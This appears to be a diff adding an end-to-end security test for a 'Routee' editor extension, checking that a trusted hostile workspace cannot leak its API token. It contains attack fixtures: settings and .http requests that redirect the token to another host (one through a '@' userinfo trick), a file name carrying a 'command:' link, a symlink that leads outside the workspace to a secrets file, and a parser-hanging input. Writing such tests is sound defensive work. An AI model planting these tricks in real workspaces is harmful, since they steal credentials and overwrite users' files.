@@ -1,0 +1,118 @@
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+
+import { defaultApplication, startRouteeSandbox, type RouteeSandbox } from '../support/routeeSandbox.ts';
+import { launchWorkbench } from './support/launchWorkbench.ts';
+import { addApplication, sandboxSettings } from './support/sandboxUser.ts';
+import type { Workbench } from './support/workbench.ts';
+
+const { id, secret } = defaultApplication;
+const OUTSIDE = 'KEEP=this\n';
+/** A message would show it as a link that runs a command. */
+const LINK = '[Shop](command:workbench.action.toggleZenMode).http';
+const REQUEST = 'GET https://connect.routee.net/accounts/me/balance\n';
+/** Each character begins something that may never end: what looks for the end from each takes minutes. */
+const ENDLESS = `${'@a = {{'.repeat(40_000)}\n${'{{"<# \n'.repeat(80_000)}`;
+
+/** Restricted Mode has tests of its own; whoever has been talked into trusting a folder is safe from it, too. */
+describe('a hostile workspace that is trusted', () => {
+  let outside: string;
+  let sandbox: RouteeSandbox;
+  let elsewhere: RouteeSandbox;
+  let workbench: Workbench;
+
+  before(async () => {
+    outside = mkdtempSync(path.join(tmpdir(), 'routee-outside-'));
+    writeFileSync(path.join(outside, 'secrets.env'), OUTSIDE);
+    [sandbox, elsewhere] = await Promise.all([startRouteeSandbox(), startRouteeSandbox()]);
+    const own = new URL(sandbox.apiUrl);
+    const foreign = new URL(elsewhere.apiUrl);
+    workbench = await launchWorkbench({
+      settings: sandboxSettings(sandbox),
+      workspaceFiles: {
+        '.vscode/settings.json': JSON.stringify({
+          ...sandboxSettings(elsewhere),
+          'http.proxy': elsewhere.apiUrl,
+          'routee.commandVariable.enabled': true,
+          'routee.http.exposeToClients': true,
+          'routee.terminal.injectToken': true,
+        }),
+        'evil.http': [
+          `@api = ${elsewhere.apiUrl}`,
+          '### another host',
+          'GET {{api}}/accounts/me/balance',
+          '### another host behind a user name',
+          `GET http://${own.host}@${foreign.host}/accounts/me/balance`,
+          '',
+        ].join('\n'),
+        'endless.http': ENDLESS,
+        [LINK]: REQUEST,
+      },
+      committedFiles: [LINK],
+    });
+    symlinkSync(path.join(outside, 'secrets.env'), path.join(workbench.folders.workspaceDir, '.env'));
+  });
+
+  after(async () => {
+    await workbench.close();
+    await Promise.all([sandbox.close(), elsewhere.close()]);
+    rmSync(outside, { recursive: true, force: true });
+  });
+
+  it('gets no credentials by its settings', async () => {
+    await workbench.routee.open();
+    await addApplication(workbench, { id, secret, name: 'Shop' });
+    await workbench.dismissNotifications();
+    assert.equal(sandbox.liveTokens(id).length, 1);
+    assert.deepEqual(elsewhere.requests, []);
+  });
+
+  for (const line of [3, 5]) {
+    it(`gets no token by its request in line ${line}`, async () => {
+      await workbench.editor.openFile('evil.http');
+      await workbench.editor.setCursor(line);
+      await workbench.runCommand('Routee: Send Request');
+      await workbench.notification(/The token is sent to \S+ only/);
+      await workbench.screenshot(`hostile-1-line-${line}`);
+      await workbench.dismissNotifications();
+      assert.deepEqual(elsewhere.requests, []);
+    });
+  }
+
+  it('has nothing run by the name of a file', async () => {
+    await workbench.editor.openFile(LINK);
+    await workbench.editor.setCursor(2);
+    await workbench.runCommand('Routee: Insert Token');
+    const message = await workbench.notification(/Git tracks \[Shop\] \(command:/);
+    await workbench.screenshot('hostile-2-name');
+    assert.equal(await workbench.page.locator('.notification-list-item-message a').count(), 0);
+    await message.click('Undo');
+    await workbench.dismissNotifications();
+  });
+
+  it('has nothing written behind a link that leads out', async () => {
+    const { quickInput } = workbench;
+    await workbench.routee.chooseFromContextMenu(/^Shop/, 'Link Environment File…');
+    await quickInput.waitFor('Which file is to hold the current token?');
+    await quickInput.pick('.env');
+    await quickInput.waitFor('Name of the variable');
+    await quickInput.enter();
+    await workbench.notification(/leads outside of the workspace folder/);
+    await workbench.screenshot('hostile-3-link');
+    await workbench.dismissNotifications();
+    assert.equal(readFileSync(path.join(outside, 'secrets.env'), 'utf8'), OUTSIDE);
+  });
+
+  it('keeps nobody waiting by a file', async () => {
+    await workbench.editor.openFile('endless.http');
+    await workbench.runCommand('Routee: Refresh Token');
+    await workbench.notification(/Shop/);
+    await workbench.dismissNotifications();
+  });
+
+  it('has sent nothing to anybody else by then', () => {
+    assert.deepEqual(elsewhere.requests, []);
+  });
+});
